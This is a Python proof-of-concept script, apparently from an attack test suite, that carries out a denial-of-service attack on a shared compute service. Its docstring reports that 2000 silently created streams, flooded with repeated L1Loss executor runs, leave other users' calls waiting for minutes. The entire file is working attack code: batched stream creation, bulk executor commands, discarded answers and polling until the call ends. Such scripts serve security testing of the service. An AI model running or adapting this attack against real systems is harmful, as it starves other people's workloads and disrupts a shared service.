"""A session with two thousand streams, each with sixteen commands of some ten milliseconds: nothing of a session's is
admitted, so nobody knows of the work when others are told how long they must wait.

Cost: 50 bytes a command. Found: other people's medium calls are accepted and then wait for minutes.
"""

import wire
from attack import Attack, Target, run
from sessions import CONTEXT, Session

STREAMS = 2000


def crowd(target: Target) -> None:
    session = Session(target.connect()).begin()
    session.allocate(1, 64)
    session.upload(1, bytes(64))
    inputs = [wire.repeated(name, [1 << 24], buffer=1) for name in ("self", "target")]
    for first in range(2, STREAMS, 250):
        session.send_group(
            [session.command(wire.CREATE_STREAM, wire.ids(first + i, CONTEXT), quiet=True) for i in range(250)]
        )
    for first in range(2, STREAMS, 50):
        commands = []
        for i in range(first, first + 50):
            planned = wire.executor(i, CONTEXT, wire.call("L1Loss", inputs, reduction=1), True)
            commands.append(session.command(wire.CREATE_EXECUTOR, planned))
            commands += [session.command(wire.RUN_EXECUTOR, wire.ids(i, i)) for _ in range(8)]
        session.send_group(commands)
        session.drop_answers()
    session.connection.poll_until(lambda: session.call.ended, target.seconds)


if __name__ == "__main__":
    run(Attack([crowd]))
